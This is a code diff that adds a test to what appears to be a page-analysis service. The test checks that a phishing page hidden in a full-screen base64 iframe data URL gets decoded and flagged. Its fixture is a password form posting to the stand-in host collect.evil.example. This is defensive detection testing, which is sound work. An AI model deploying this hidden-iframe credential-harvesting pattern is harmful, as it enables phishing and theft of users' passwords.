@@ -92,3 +92,11 @@ def test_scripts_past_the_child_limit_are_counted_not_dropped_silently():
     run = run_service_once("html", page, file_type="code/html", name="many.html", max_extracted=5)
     assert len(run.extracted) == 5
     assert "25 scripts or payloads were not extracted" in run.section("Too many children").body
+
+
+def test_a_page_hidden_in_an_iframe_data_url_is_decoded():
+    inner = b"<html><form action='https://collect.evil.example/'><input type=password></form></html>"
+    run = page_run(f'<html><body><iframe src="data:text/html;base64,{base64.b64encode(inner).decode()}" '
+                   f'width="100%" height="100%"></iframe></body></html>')
+    assert {e.name: e.data for e in run.extracted}["iframe-1.bin"] == inner
+    assert 3 in run.heuristics
